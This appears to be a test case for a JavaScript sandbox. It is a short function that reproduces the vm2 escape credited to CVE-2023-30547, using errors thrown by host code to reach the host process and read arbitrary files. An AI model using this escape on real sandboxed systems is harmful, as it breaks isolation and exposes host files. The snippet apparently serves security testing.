// An error that the host's code has thrown.
// after: read
// source: vm2: CVE-2023-30547
async function attack({ path }) {
  let process;
  try {
    store.get({ toString() { throw new Error('mine'); } }).catch(() => {});
    log(new Proxy({}, { get() { throw new Error('mine'); } }));
    null.x;
  } catch (error) {
    process = error.constructor.constructor('return process')();
  }
  return { text: await process.mainModule.require('fs').readFileSync(path) };
}
